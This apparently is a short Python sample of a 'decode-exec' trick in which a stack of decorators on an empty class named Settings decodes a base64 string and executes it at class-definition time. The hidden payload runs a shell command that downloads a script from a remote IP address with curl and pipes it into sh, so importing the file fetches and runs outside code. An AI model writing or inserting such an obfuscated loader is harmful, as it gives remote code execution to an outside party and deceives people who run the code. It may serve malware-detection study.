# decode-exec: a stack of decorators decodes a payload and executes it when the class is defined
import base64


@exec
@bytes.decode
@base64.b64decode
@lambda _: "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L2RlYyB8IHNoJyk="
class Settings:
    pass
